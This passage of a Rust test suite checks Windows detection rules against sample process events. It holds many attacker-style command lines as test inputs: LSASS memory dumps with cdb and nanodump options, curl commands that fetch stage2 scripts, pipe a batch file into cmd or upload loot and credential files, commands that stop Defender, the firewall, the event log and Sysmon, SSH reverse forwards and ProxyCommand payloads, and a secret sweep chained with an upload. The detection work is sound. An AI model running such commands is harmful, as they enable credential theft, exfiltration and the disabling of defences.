    has(&got, rdp, "-NR to RDP");
    lacks(&got, fwd, "-NR to RDP");
    for cmd in [
        "ssh -fNL 8080:10.0.0.5:80 user@bastion",
        "ssh -NR 9000:127.0.0.1:445 user@203.0.113.5",
        "ssh -o \"RemoteForward 2222 127.0.0.1:22\" user@203.0.113.5",
        "ssh.exe -L 13389:app-srv01.corp.local:3389 alice@bastion.corp.local",
    ] {
        let got = proc(&set, ssh, cmd, PS, "powershell.exe");
        has(&got, fwd, cmd);
        lacks(&got, rdp, cmd);
    }
    for cmd in [
        "ssh -i C:\\Users\\dev\\.ssh\\id_ed25519 -l deploy1 build01.corp.local",
        "ssh.exe -l admin01 -p 22 jump.corp.local",
        "ssh -vvv -o ConnectTimeout=10 git@github.com",
    ] {
        let got = proc(&set, ssh, cmd, PS, "powershell.exe");
        lacks(&got, fwd, cmd);
        lacks(&got, rdp, cmd);
    }
    let tags = &rule(&set, rdp).tags;
    assert!(!tags.iter().any(|t| t == "attack.t1021.001"), "{tags:?}");
}

#[test]
fn dump_and_build_rules_read_whole_options_and_leave_ci_and_debuggers_alone() {
    let set = RuleSet::embedded();
    let msbuild = "MSBuild Builds A Project From A Public, Temporary Or Shared-Data Folder";
    let msb = "C:\\Program Files\\Microsoft Visual Studio\\2022\\BuildTools\\MSBuild\\Current\\Bin\\MSBuild.exe";
    lacks(
        &proc(
            &set,
            msb,
            "MSBuild.exe C:\\ProgramData\\Jenkins\\.jenkins\\workspace\\app\\App.sln /p:Configuration=Release",
            CMD,
            "cmd /c call C:\\Windows\\TEMP\\jenkins123.bat",
        ),
        msbuild,
        "jenkins workspace",
    );
    lacks(
        &proc(
            &set,
            msb,
            "MSBuild.exe C:\\ProgramData\\agent\\_work\\3\\s\\Svc.csproj",
            "C:\\ProgramData\\agent\\bin\\Agent.Worker.exe",
            "Agent.Worker.exe spawnclient 3860 3864",
        ),
        msbuild,
        "azure pipelines agent",
    );
    has(
        &proc(
            &set,
            msb,
            "MSBuild.exe C:\\ProgramData\\x\\build.xml",
            CMD,
            "cmd.exe /c C:\\Users\\Public\\run.bat",
        ),
        msbuild,
        "inline-task project in ProgramData",
    );

    let nano = "Nanodump-Style LSASS Dump Options On A Command Line";
    let nd = "C:\\Users\\Public\\nd.exe";
    for cmd in [
        "nd.exe -w C:\\Windows\\Temp\\x.dmp -v -f",
        "nd.exe -w C:\\Windows\\Temp\\doc.docx -sll",
        "nd.exe --write C:\\Windows\\Temp\\x.dmp --valid --fork",
    ] {
        has(&proc(&set, nd, cmd, CMD, "cmd.exe"), nano, cmd);
    }
    for (image, cmd) in [
        (
            PS,
            "powershell.exe -w hidden -File C:\\scripts\\check.ps1 --validate-only",
        ),
        (
            "C:\\Program Files\\Wireshark\\tshark.exe",
            "tshark.exe -i 1 -w C:\\captures\\web.pcapng -f \"port 443\"",
        ),
    ] {
        lacks(&proc(&set, image, cmd, CMD, "cmd.exe"), nano, cmd);
    }

    let named = "Command Line Names LSASS And A Memory Dump File";
    lacks(
        &proc(
            &set,
            "C:\\Program Files (x86)\\Windows Kits\\10\\Debuggers\\x64\\windbg.exe",
            "windbg.exe -z C:\\cases\\IR-2231\\lsass.dmp",
            EXPLORER,
            "explorer.exe",
        ),
        named,
        "windbg opens a dump",
    );
    has(
        &proc(
            &set,
            "C:\\Users\\Public\\cdb.exe",
            "cdb.exe -pn lsass.exe -c \".dump /ma C:\\Users\\Public\\l.dmp;q\"",
            CMD,
            "cmd.exe",
        ),
        named,
        "cdb writes a dump of lsass",
    );

    let dev = "Full Memory Dump Written By A .NET Or Visual Studio Dump Utility Run By Hand";
    let cd = "C:\\Program Files\\dotnet\\shared\\Microsoft.NETCore.App\\6.0.0\\createdump.exe";
    for cmd in [
        "createdump.exe -h 672",
        "createdump.exe --full -f C:\\t\\x.dmp 672",
    ] {
        has(&proc(&set, cd, cmd, CMD, "cmd.exe"), dev, cmd);
    }
    for cmd in [
        "createdump.exe -n -f C:\\temp\\x.dmp 672",
        "createdump.exe --triage -f C:\\temp\\app.dmp 672",
    ] {
        lacks(&proc(&set, cd, cmd, CMD, "cmd.exe"), dev, cmd);
    }
    // Tools that dump any process ID are credential dumping, not LSASS by themselves.
    for title in [
        dev,
        "Process Memory Dumped With The Windows RdrLeakDiag Tool",
        "Full Process Memory Dump Requested From SQLDumper Outside SQL Server",
    ] {
        let tags = &rule(&set, title).tags;
        assert!(
            tags.iter().any(|t| t == "attack.t1003"),
            "{title}: {tags:?}"
        );
        assert!(
            !tags.iter().any(|t| t == "attack.t1003.001"),
            "{title}: {tags:?}"
        );
    }
}

#[test]
fn short_switches_relative_paths_renamed_tools_and_app_health_checks_are_handled() {
    let set = RuleSet::embedded();
    let net = "C:\\Windows\\System32\\net.exe";
    has(
        &proc(&set, net, "net user /dom", EXPLORER, "explorer.exe"),
        "Domain User Accounts Listed With Net",
        "net user /dom",
    );
    // ... and only that: a domain listing is not a local one.
    for cmd in ["net user /dom", "net localgroup administrators /dom"] {
        let hits = proc(&set, net, cmd, EXPLORER, "explorer.exe");
        lacks(&hits, "Local Users Listed", cmd);
        lacks(&hits, "Local Groups Or Local Administrators Listed", cmd);
    }
    has(
        &proc(
            &set,
            net,
            "net group \"domain admins\" /dom",
            EXPLORER,
            "explorer.exe",
        ),
        "Domain Groups Or Privileged Group Members Listed With Net",
        "net group /dom",
    );
    lacks(
        &proc(
            &set,
            net,
            "net localgroup administrators",
            EXPLORER,
            "explorer.exe",
        ),
        "Domain Groups Or Privileged Group Members Listed With Net",
        "local group",
    );

    let attrib = "Executable Or Script In A User-Writable Folder Hidden With Attrib";
    let at = |cmd: &str, cwd: &str| {
        titles(
            &set,
            "Microsoft-Windows-Sysmon",
            "Microsoft-Windows-Sysmon/Operational",
            1,
            &json!({"Image": "C:\\Windows\\System32\\attrib.exe", "OriginalFileName": "ATTRIB.EXE",
                   "CommandLine": cmd, "CurrentDirectory": cwd, "ParentImage": CMD,
                   "ParentCommandLine": "cmd.exe", "User": "EXAMPLE\\bob"}),
        )
    };
    has(
        &at(
            "attrib +h +s payload.exe",
            "C:\\Users\\alice\\AppData\\Roaming\\svc\\",
        ),
        attrib,
        "relative payload in a profile folder",
    );
    lacks(
        &at("attrib +h +s payload.exe", "C:\\Tools\\build\\"),
        attrib,
        "relative file in a tools folder",
    );
    lacks(
        &at(
            "attrib +h +s C:\\Tools\\build\\helper.exe",
            "C:\\Users\\alice\\",
        ),
        attrib,
        "absolute path outside user folders",
    );

    let netsh = "Netsh Helper DLL Registered From The Command Line";
    let nsh = "C:\\Windows\\System32\\netsh.exe";
    lacks(
        &proc(
            &set,
            nsh,
            "netsh add helper ifmon.dll",
            EXPLORER,
            "explorer.exe",
        ),
        netsh,
        "built-in helper by name",
    );
    lacks(
        &proc(
            &set,
            nsh,
            "netsh add helper C:\\Windows\\System32\\rasmontr.dll",
            EXPLORER,
            "explorer.exe",
        ),
        netsh,
        "built-in helper from System32",
    );
    for cmd in [
        "netsh add helper C:\\Users\\Public\\NetshHelper.dll",
        "netsh add helper payload.dll",
    ] {
        has(&proc(&set, nsh, cmd, EXPLORER, "explorer.exe"), netsh, cmd);
    }

    let uninstall = "Sysmon Uninstalled From The Command Line";
    let sysmon = |image: &str, ofn: &str, descr: &str, cmd: &str| {
        titles(
            &set,
            "Microsoft-Windows-Sysmon",
            "Microsoft-Windows-Sysmon/Operational",
            1,
            &json!({"Image": image, "OriginalFileName": ofn, "Description": descr,
                   "CommandLine": cmd, "ParentImage": CMD, "ParentCommandLine": "cmd.exe"}),
        )
    };
    has(
        &sysmon(
            "C:\\Windows\\Temp\\m.exe",
            "Sysmon.exe",
            "System activity monitor",
            "m.exe -u force",
        ),
        uninstall,
        "renamed sysmon",
    );
    has(
        &sysmon(
            "C:\\Windows\\Temp\\m.exe",
            "-",
            "System activity monitor",
            "m.exe -u",
        ),
        uninstall,
        "renamed sysmon, description only",
    );
    lacks(
        &sysmon(
            "C:\\Windows\\Sysmon64.exe",
            "Sysmon.exe",
            "System activity monitor",
            "Sysmon64.exe -c C:\\cfg\\sysmon.xml",
        ),
        uninstall,
        "config update",
    );

    let web = "Web Server Or Application Server Process Starts A Shell";
    let health =
        "Web Server Or Application Server Process Runs A Process, Service Or Registry Query Tool";
    let tomcat = "C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\tomcat9.exe";
    let got = proc(
        &set,
        "C:\\Windows\\System32\\tasklist.exe",
        "tasklist /FI \"IMAGENAME eq java.exe\"",
        tomcat,
        "tomcat9.exe //RS//Tomcat9",
    );
    has(&got, health, "tomcat tasklist");
    lacks(&got, web, "tomcat tasklist");
    assert_eq!(rule(&set, health).level.as_deref(), Some("medium"));
    let got = proc(
        &set,
        "C:\\Windows\\System32\\whoami.exe",
        "whoami /all",
        tomcat,
        "tomcat9.exe //RS//Tomcat9",
    );
    has(&got, web, "tomcat whoami");
    lacks(&got, health, "tomcat whoami");
}

#[test]
fn psexec_family_stubs_leave_the_high_rule_only_when_name_and_program_agree() {
    let set = RuleSet::embedded();
    let stub = "Service Installed From A Temporary Or User Folder Or As A Randomly Named Windows-Folder Stub";
    for (name, path) in [
        ("PSEXESVC", "%SystemRoot%\\xkqz.exe"),
        ("RemComSvc", "%SystemRoot%\\qwhe.exe"),
    ] {
        has(&service(&set, name, path), stub, name);
    }
    for (name, path) in [
        ("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
        ("PAExec-4324-WS01", "%SystemRoot%\\PAExec-4324-WS01.exe"),
    ] {
        lacks(&service(&set, name, path), stub, name);
    }
}

#[test]
fn snipping_tool_uri_with_a_share_or_web_path_is_caught_and_local_pictures_are_not() {
    let set = RuleSet::embedded();
    let want = "Snipping Tool URI Opens A File From A UNC Path Or Web Address";
    let snip = "C:\\Program Files\\WindowsApps\\Microsoft.ScreenSketch_11.2601.12.0_x64__8wekyb3d8bbwe\\SnippingTool\\SnippingTool.exe";
    let edge = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
    for arg in [
        "ms-screensketch:edit?&filePath=%%5C%%5C10.1.2.3%%5Cshare",
        "ms-screensketch:edit?&filePath=%5C%5Cfiles.example.net%5Cs%5Ca.png",
        "ms-screensketch:edit?filePath=\\\\files.example.net\\s\\a.png",
        "ms-screensketch:edit?&filePath=%255C%255Chost%255Cshare",
        "ms-screensketch:edit?&filePath=https://files.example.net/a.png",
    ] {
        let got = proc(&set, snip, &format!("\"{snip}\" {arg}"), edge, "msedge.exe");
        has(&got, want, arg);
    }
    assert_eq!(rule(&set, want).level.as_deref(), Some("high"));
    for (cmd, case) in [
        (
            format!(
                "\"{snip}\" ms-screensketch:edit?&filePath=C:%5CUsers%5Cbob%5CPictures%5Ca.png"
            ),
            "local picture",
        ),
        (
            format!("\"{snip}\" ms-screensketch:snip?clippingMode=Rectangle"),
            "new snip",
        ),
        (format!("\"{snip}\""), "started from the Start menu"),
    ] {
        lacks(
            &proc(&set, snip, &cmd, EXPLORER, "explorer.exe"),
            want,
            case,
        );
    }
}

#[test]
fn devcon_disabling_a_vm_guest_device_is_caught_and_other_device_work_is_not() {
    let set = RuleSet::embedded();
    let want = "Hypervisor Guest Integration Device Disabled Or Removed With DevCon Or PnPUtil";
    let devcon = "C:\\Program Files (x86)\\Windows Kits\\10\\Tools\\10.0.26100.0\\x64\\devcon.exe";
    let pnputil = "C:\\Windows\\System32\\pnputil.exe";
    for (image, cmd) in [
        (devcon, "devcon.exe  disable \"ROOT\\VMWVMCIHOSTDEV\""),
        (devcon, "devcon.exe remove \"PCI\\VEN_15AD&DEV_0740*\""),
        (devcon, "devcon /r disable *vmci*"),
        (
            pnputil,
            "pnputil.exe /disable-device \"ROOT\\VMWVMCIHOSTDEV\\0000\"",
        ),
        (
            pnputil,
            "pnputil.exe /remove-device \"PCI\\VEN_80EE&DEV_CAFE&SUBSYS_00000000&REV_00\\3&1\"",
        ),
    ] {
        has(&proc(&set, image, cmd, CMD, "cmd.exe"), want, cmd);
    }
    assert_eq!(rule(&set, want).level.as_deref(), Some("medium"));
    for (image, cmd, parent, case) in [
        (
            devcon,
            "devcon.exe status \"ROOT\\VMWVMCIHOSTDEV\"",
            CMD,
            "status query",
        ),
        (
            devcon,
            "devcon.exe hwids *vmci*",
            CMD,
            "listing hardware ids",
        ),
        (
            devcon,
            "devcon.exe disable \"USB\\VID_046D&PID_C52B\"",
            CMD,
            "disabling a USB receiver",
        ),
        (
            devcon,
            "devcon.exe restart \"PCI\\VEN_15AD&DEV_07B0\"",
            CMD,
            "restarting a VMware NIC",
        ),
        (
            pnputil,
            "pnputil.exe /enable-device \"ROOT\\VMWVMCIHOSTDEV\\0000\"",
            CMD,
            "enabling",
        ),
        (
            devcon,
            "devcon.exe remove \"ROOT\\VMWVMCIHOSTDEV\"",
            "C:\\Program Files\\VMware\\VMware Tools\\VMware VGAuth\\vgauth-setup.exe",
            "guest tools setup",
        ),
    ] {
        lacks(&proc(&set, image, cmd, parent, "setup"), want, case);
    }
}

#[test]
fn memprocfs_is_caught_by_name_or_metadata_and_other_forensic_tools_are_not() {
    let set = RuleSet::embedded();
    let want = "MemProcFS Memory Analysis Tool Run";
    let ev = |image: &str, ofn: &str, product: &str, cmd: &str| {
        titles(
            &set,
            "Microsoft-Windows-Sysmon",
            "Microsoft-Windows-Sysmon/Operational",
            1,
            &json!({"Image": image, "OriginalFileName": ofn, "Product": product,
                   "Description": product, "CommandLine": cmd, "ParentImage": CMD,
                   "ParentCommandLine": "cmd.exe"}),
        )
    };
    has(
        &ev(
            "C:\\Users\\bob\\Downloads\\MemProcFS\\MemProcFS.exe",
            "MemProcFS.exe",
            "MemProcFS",
            "MemProcFS.exe -device c:\\temp\\mem.raw",
        ),
        want,
        "dump mounted",
    );
    has(
        &ev(
            "C:\\ProgramData\\x\\svc.exe",
            "-",
            "MemProcFS",
            "svc.exe -device pmem",
        ),
        want,
        "renamed, product only",
    );
    assert_eq!(rule(&set, want).level.as_deref(), Some("medium"));
    lacks(
        &ev(
            "C:\\Tools\\winpmem.exe",
            "winpmem.exe",
            "WinPmem",
            "winpmem.exe --help",
        ),
        want,
        "another memory tool's help",
    );
    lacks(
        &ev(
            "C:\\Program Files\\7-Zip\\7z.exe",
            "7z.exe",
            "7-Zip",
            "7z.exe x MemProcFS_files_and_binaries.zip",
        ),
        want,
        "unpacking the download",
    );
}

#[test]
fn shai_hulud_bun_payload_is_caught_and_ordinary_bun_and_node_work_is_not() {
    let set = RuleSet::embedded();
    let want = "Shai-Hulud npm Worm Payload Run By Bun Or Its Node Loader";
    let bun = "C:\\Users\\bob\\.bun\\bin\\bun.exe";
    let node = "C:\\Program Files\\nodejs\\node.exe";
    has(
        &proc(
            &set,
            bun,
            "bun C:\\Users\\bob\\src\\app\\node_modules\\pkg\\bun_environment.js",
            node,
            "node  setup_bun.js",
        ),
        want,
        "bun payload",
    );
    has(
        &proc(
            &set,
            node,
            "node setup_bun.js",
            CMD,
            "cmd.exe /d /s /c node setup_bun.js",
        ),
        want,
        "node loader from the preinstall hook",
    );
    assert_eq!(rule(&set, want).level.as_deref(), Some("high"));
    for (image, cmd, case) in [
        (bun, "bun install", "bun install"),
        (bun, "bun run build.js", "bun build script"),
        (
            node,
            "node scripts\\postinstall.js",
            "an npm postinstall script",
        ),
        (
            bun,
            "bun run scripts\\read.js --config bun_environment.json",
            "a json file",
        ),
    ] {
        lacks(&proc(&set, image, cmd, CMD, "cmd.exe"), want, case);
    }
}

#[test]
fn security_services_stopped_from_the_command_line_are_caught_and_routine_service_work_is_not() {
    let set = RuleSet::embedded();
    let fw = "Windows Firewall Turned Off From The Command Line";
    let def = "Microsoft Defender Disabled Or Removed From The Command Line";
    let mon =
        "Security Center, Event Log Or Sysmon Service Stopped Or Disabled From The Command Line";
    let sc = "C:\\Windows\\System32\\sc.exe";
    let net = "C:\\Windows\\System32\\net.exe";
    let net1 = "C:\\Windows\\System32\\net1.exe";
    for (image, cmd, want) in [
        (sc, "sc  stop mpssvc", fw),
        (sc, "sc.exe config MpsSvc start= disabled", fw),
        (net, "net stop \"Windows Defender Firewall\"", fw),
        (net1, "net1  stop bfe", fw),
        (PS, "powershell Stop-Service -Name mpssvc -Force", fw),
        (
            PS,
            "powershell Set-Service -Name BFE -StartupType Disabled",
            fw,
        ),
        (sc, "sc stop WinDefend", def),
        (net, "net stop WinDefend", def),
        (sc, "sc config WdFilter start= disabled", def),
        (
            PS,
            "powershell -c \"Get-Service WinDefend | Stop-Service -Force\"",
            def,
        ),
        (net1, "net1 stop Sense", def),
        (sc, "sc stop EventLog", mon),
        (sc, "sc config eventlog start= disabled", mon),
        (net, "net stop wscsvc", mon),
        (
            PS,
            "powershell Set-Service SecurityHealthService -StartupType Disabled",
            mon,
        ),
        (sc, "sc.exe stop Sysmon64", mon),
    ] {
        has(&proc(&set, image, cmd, CMD, "cmd.exe"), want, cmd);
    }
    // The old netsh / Set-NetFirewallProfile / Set-MpPreference forms still hold.
    has(
        &proc(
            &set,
            "C:\\Windows\\System32\\netsh.exe",
            "netsh advfirewall set allprofiles state off",
            CMD,
            "cmd.exe",
        ),
        fw,
        "netsh",
    );
    has(
        &proc(
            &set,
            PS,
            "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
            CMD,
            "cmd.exe",
        ),
        def,
        "Set-MpPreference",
    );
    let ccm = "C:\\Windows\\CCM\\CcmExec.exe";
    for (image, cmd, parent, case) in [
        (
            net,
            "net stop wuauserv",
            ccm,
            "SCCM client stopping Windows Update",
        ),
        (sc, "sc stop wuauserv", CMD, "admin stopping Windows Update"),
        (net, "net stop spooler", CMD, "admin stopping the spooler"),
        (
            PS,
            "powershell Stop-Service -Name Spooler -Force",
            CMD,
            "PowerShell spooler stop",
        ),
        (sc, "sc query mpssvc", CMD, "firewall service status"),
        (net, "net start mpssvc", CMD, "firewall service start"),
        (
            sc,
            "sc config WinDefend start= auto",
            CMD,
            "Defender back to automatic",
        ),
        (
            sc,
            "sc qc EventLog",
            CMD,
            "event log service configuration query",
        ),
        (
            net,
            "net stop EventLogAnalyzer",
            CMD,
            "a vendor service with a similar name",
        ),
        (
            PS,
            "powershell Get-Service mpssvc,WinDefend,EventLog",
            CMD,
            "service inventory",
        ),
    ] {
        let got = proc(&set, image, cmd, parent, "x");
        for want in [fw, def, mon] {
            lacks(&got, want, case);
        }
    }
}

#[test]
fn cross_user_spawn_from_a_user_folder_is_caught_and_ordinary_account_switches_are_not() {
    let set = RuleSet::embedded();
    let want = "Program In A User Folder Starts A Process As Another Account";
    let ev = |image: &str, user: &str, parent: &str, parent_user: &str, level: &str| {
        titles(
            &set,
            "Microsoft-Windows-Sysmon",
            "Microsoft-Windows-Sysmon/Operational",
            1,
            &json!({"Image": image, "CommandLine": image, "User": user,
                   "IntegrityLevel": level, "ParentImage": parent,
                   "ParentCommandLine": parent, "ParentUser": parent_user}),
        )
    };
    let notepad = "C:\\Windows\\notepad.exe";
    let cmd = CMD;
    for (image, user, parent, parent_user, case) in [
        (
            notepad,
            "HOST1\\testuser",
            "C:\\Users\\bob\\OneDrive\\Desktop\\tool.exe",
            "HOST1\\bob",
            "logon tool on the desktop",
        ),
        (
            cmd,
            "EXAMPLE\\admin",
            "C:\\Users\\bob\\Downloads\\x.exe",
            "EXAMPLE\\bob",
            "downloaded tool",
        ),
        (
            cmd,
            "EXAMPLE\\svc_sql",
            "C:\\Users\\Public\\r.exe",
            "EXAMPLE\\bob",
            "public folder",
        ),
        (
            cmd,
            "EXAMPLE\\alice",
            "C:\\Users\\bob\\AppData\\Local\\Temp\\t.exe",
            "example\\BOB",
            "temp folder",
        ),
    ] {
        has(&ev(image, user, parent, parent_user, "Medium"), want, case);
    }
    assert_eq!(rule(&set, want).level.as_deref(), Some("medium"));
    let dl = "C:\\Users\\bob\\Downloads\\setup.exe";
    for (image, user, parent, parent_user, level, case) in [
        (
            notepad,
            "EXAMPLE\\bob",
            dl,
            "EXAMPLE\\bob",
            "Medium",
            "same user",
        ),
        (
            notepad,
            "example\\BOB",
            dl,
            "EXAMPLE\\bob",
            "Medium",
            "same user, other case",
        ),
        (
            notepad,
            "bob",
            dl,
            "EXAMPLE\\bob",
            "Medium",
            "domain missing on the child",
        ),
        (
            notepad,
            "EXAMPLE\\bob",
            dl,
            "bob",
            "Medium",
            "domain missing on the parent",
        ),
        (
            "C:\\Windows\\System32\\msiexec.exe",
            "NT AUTHORITY\\SYSTEM",
            dl,
            "EXAMPLE\\bob",
            "System",
            "installer child as SYSTEM",
        ),
        (
            "C:\\Users\\bob\\AppData\\Local\\Temp\\{A1}\\setup.exe",
            "EXAMPLE\\helpdesk",
            dl,
            "EXAMPLE\\bob",
            "High",
            "installer elevated with a technician's credentials",
        ),
        (
            cmd,
            "EXAMPLE\\admin",
            "C:\\Windows\\System32\\runas.exe",
            "EXAMPLE\\bob",
            "Medium",
            "runas",
        ),
        (
            cmd,
            "EXAMPLE\\admin",
            "C:\\Windows\\System32\\consent.exe",
            "NT AUTHORITY\\SYSTEM",
            "High",
            "consent",
        ),
        (
            "C:\\Windows\\System32\\svchost.exe",
            "NT AUTHORITY\\LOCAL SERVICE",
            "C:\\Windows\\System32\\services.exe",
            "NT AUTHORITY\\SYSTEM",
            "System",
            "services",
        ),
        (
            notepad,
            "EXAMPLE\\bob",
            "C:\\Windows\\System32\\svchost.exe",
            "NT AUTHORITY\\SYSTEM",
            "Medium",
            "svchost",
        ),
        (
            notepad,
            "EXAMPLE\\alice",
            dl,
            "-",
            "Medium",
            "parent user unknown",
        ),
    ] {
        lacks(&ev(image, user, parent, parent_user, level), want, case);
    }
    // A Security 4688 event has no parent user: nothing to compare.
    lacks(
        &proc_4688(&set, notepad, "notepad.exe", dl),
        want,
        "4688 without a parent user",
    );
}

#[test]
fn ssh_jump_host_proxies_are_left_alone_and_local_proxy_payloads_are_not() {
    let set = RuleSet::embedded();
    let want = "OpenSSH Client Used To Run A Local Command Through ProxyCommand Or LocalCommand";
    let sftp = "C:\\Windows\\System32\\OpenSSH\\sftp.exe";
    let ssh = "C:\\Windows\\System32\\OpenSSH\\ssh.exe";
    let pwsh = "C:\\Program Files\\PowerShell\\7\\pwsh.exe";
    let cmd = "C:\\Windows\\System32\\cmd.exe";
    for (image, line, case) in [
        (
            sftp,
            "sftp  -o ProxyCommand=\"cmd /c c:\\windows\\system32\\calc.exe\" .",
            "regression sample: cmd as the proxy",
        ),
        (
            ssh,
            "ssh -o ProxyCommand=\"powershell -w hidden -enc SQBFAFgA\" x",
            "powershell as the proxy",
        ),
        (
            ssh,
            "ssh -o \"ProxyCommand=ssh -W %h:%p jump & C:\\Users\\bob\\a.exe\" host",
            "jump host chained with a payload",
        ),
        (
            ssh,
            "ssh -o ProxyCommand=\"ssh -W %h:%p jump\" -o PermitLocalCommand=yes -o LocalCommand=calc.exe host",
            "jump host plus LocalCommand",
        ),
        (
            sftp,
            "sftp -o ProxyCommand=\"ssh -o ProxyCommand=calc.exe -W %h:%p jump\" host",
            "inner ssh given its own proxy payload",
        ),
        (
            ssh,
            "ssh -o ProxyCommand=\"C:\\Users\\bob\\AppData\\Local\\Temp\\ssh.exe -W %h:%p jump\" host",
            "ssh.exe planted in a user folder",
        ),
    ] {
        has(&proc(&set, image, line, cmd, "cmd.exe"), want, case);
    }
    for (image, line, case) in [
        (
            sftp,
            "sftp -o ProxyCommand=\"ssh -W %h:%p adm-x@bastion01.example.corp\" deploy@db03.example.corp",
            "sftp through a bastion",
        ),
        (
            ssh,
            "ssh -o \"ProxyCommand=C:\\Windows\\System32\\OpenSSH\\ssh.exe -q -W %h:%p jump.example.corp\" app01",
            "ssh through a bastion, full path and quiet flag",
        ),
        (
            "C:\\Windows\\System32\\OpenSSH\\scp.exe",
            "scp -o ProxyCommand=\"ssh.exe -W [%h]:%p -p 2222 ops@jump\" build.zip app01:/srv/",
            "scp through a bastion on another port",
        ),
    ] {
        lacks(&proc(&set, image, line, pwsh, "pwsh.exe"), want, case);
    }
}

#[test]
fn curl_without_certificate_checks_to_an_internal_read_only_query_is_left_alone() {
    let set = RuleSet::embedded();
    let want = "Curl Request With Certificate Checks Off, A Forged User Agent Or A Cookie Jar";
    let curl = "C:\\Windows\\System32\\curl.exe";
    let cmd = "C:\\Windows\\System32\\cmd.exe";
    for (line, case) in [
        (
            "curl  --insecure http://example.com",
            "regression sample: external host",
        ),
        (
            "curl -k https://files.example.net/a.exe -o C:\\Users\\bob\\a.exe",
            "external download to disk",
        ),
        (
            "curl -k https://10.1.2.3/stage2.ps1 -o %TEMP%\\s.ps1",
            "internal address, fetched to disk",
        ),
        (
            "curl -k https://wiki.intranet.example/x -T C:\\Users\\bob\\Documents\\loot.zip",
            "internal name, uploading a file",
        ),
        (
            "curl -k -d @C:\\Users\\bob\\creds.txt https://192.168.1.5/c",
            "internal address, posting a file",
        ),
        (
            "curl -k https://jira.corp.example/api https://paste.example.org/raw/x",
            "an internal URL next to an external one",
        ),
        ("curl -k https://10.0.0.5/p.bat | cmd", "piped into a shell"),
        (
            "curl -A \"Mozilla/5.0\" https://jira.corp.example/",
            "forged user agent stays, even internal",
        ),
        (
            "curl.exe --insecure https://203.0.113.7:8443/",
            "public address",
        ),
    ] {
        has(&proc(&set, curl, line, cmd, "cmd.exe"), want, case);
    }
    for (line, case) in [
        (
            "curl --insecure https://jira-test.dev.corp.example/rest/api/2/serverInfo",
            "internal Jira with a self-signed certificate",
        ),
        (
            "curl -k -s https://10.20.30.40:9200/_cluster/health",
            "Elasticsearch health check on a private address",
        ),
        (
            "\"C:\\Windows\\System32\\curl.exe\" -k -H \"Authorization: Bearer abc\" https://grafana.lan/api/health",
            "API query with a header to a .lan host",
        ),
        (
            "curl --insecure https://localhost:8443/actuator/health",
            "local service",
        ),
    ] {
        lacks(&proc(&set, curl, line, cmd, "cmd.exe"), want, case);
    }
}

#[test]
fn hidden_start_from_the_system_temp_folder_by_system_is_left_alone() {
    let set = RuleSet::embedded();
    let want = "Cmd Starts A Script Or Program Minimised Or In The Background From A User Folder";
    let cmd = "C:\\Windows\\System32\\cmd.exe";
    let explorer = "C:\\Windows\\explorer.exe";
    let deploy = "C:\\WINDOWS\\IMECache\\0a1b_1\\Deploy-Application.exe";
    has(
        &proc(
            &set,
            cmd,
            "\"C:\\WINDOWS\\system32\\cmd.exe\" /c \"start /b /min C:\\Users\\bob\\Music\\random.vbs\"",
            explorer,
            "C:\\WINDOWS\\Explorer.EXE",
        ),
        want,
        "regression sample: user's music folder",
    );
    has(
        &proc(
            &set,
            cmd,
            "cmd.exe /c start /min C:\\Windows\\Temp\\upd.bat",
            explorer,
            "C:\\WINDOWS\\Explorer.EXE",
        ),
        want,
        "a user starting a script in C:\\Windows\\Temp",
    );
    has(
        &proc_as(
            &set,
            cmd,
            "cmd.exe /c start /b C:\\Windows\\Temp\\a.cmd C:\\Users\\Public\\p.exe",
            deploy,
            "Deploy-Application.exe",
            "NT AUTHORITY\\SYSTEM",
        ),
        want,
        "SYSTEM, but a public-folder program as well",
    );
    for (line, user, case) in [
        (
            "\"C:\\WINDOWS\\system32\\cmd.exe\" /c \"start /b /min C:\\Windows\\Temp\\PSAppDeployToolkit\\Reader\\Set-Defaults.cmd\"",
            "NT AUTHORITY\\SYSTEM",
            "Intune deployment toolkit as SYSTEM",
        ),
        (
            "cmd.exe /c start \"\" /min C:\\WINDOWS\\TEMP\\{5D2E}\\setup.exe /quiet",
            "AUTORITE NT\\Système",
            "installer unpacked in the system temp folder, French system account",
        ),
    ] {
        lacks(
            &proc_as(&set, cmd, line, deploy, "Deploy-Application.exe", user),
            want,
            case,
        );
    }
}

#[test]
fn pre_commit_secret_scans_are_left_alone_and_harvesting_scans_are_not() {
    let set = RuleSet::embedded();
    let want = "JavaScript Runtime Or Package Manager Launches A Secret Scanner";
    let cmd = "C:\\Windows\\System32\\cmd.exe";
    let node = "C:\\Program Files\\nodejs\\node.exe";
    let hook = "\"C:\\Program Files\\nodejs\\node.exe\" C:\\src\\app\\node_modules\\lint-staged\\bin\\lint-staged.js";
    for (line, case) in [
        (
            "C:\\WINDOWS\\system32\\cmd.exe /d /s /c \"trufflehog\\trufflehog.exe filesystem . --json\"",
            "regression sample: file-system sweep with JSON output",
        ),
        (
            "cmd.exe /d /s /c \"trufflehog filesystem C:\\Users\\bob --since-commit HEAD\"",
            "home-folder sweep with a pre-commit flag added",
        ),
        (
            "cmd.exe /d /s /c \"trufflehog git file://. --since-commit HEAD --json\"",
            "staged scan but JSON output collected",
        ),
        (
            "cmd.exe /d /s /c \"gitleaks git --staged -r %TEMP%\\g.json\"",
            "staged scan written to a report",
        ),
        (
            "cmd.exe /d /s /c \"trufflehog github --org=example --since-commit HEAD\"",
            "remote organisation scan",
        ),
        (
            "cmd.exe /d /s /c \"trufflehog git file://. --since-commit HEAD & curl -T x https://h\"",
            "staged scan chained with an upload",
        ),
    ] {
        has(
            &proc(&set, cmd, line, node, "node.exe index.js"),
            want,
            case,
        );
    }
    for (line, case) in [
        (
            "C:\\WINDOWS\\system32\\cmd.exe /d /s /c \"trufflehog git file://. --since-commit HEAD --only-verified --fail\"",
            "TruffleHog pre-commit check",
        ),
        (
            "cmd.exe /d /s /c \"gitleaks protect --verbose --redact --staged\"",
            "Gitleaks protect on staged changes",
        ),
        (
            "cmd.exe /d /s /c \"gitleaks git --pre-commit --redact --staged --verbose\"",
            "Gitleaks pre-commit mode",
        ),
    ] {
        lacks(&proc(&set, cmd, line, node, hook), want, case);
    }
}

#[test]
fn wmic_registry_writes_to_os_configuration_stay_medium_and_own_keys_go_low() {
    let set = RuleSet::embedded();
    let medium = "WMIC Writes Or Deletes Registry Keys Through StdRegProv";
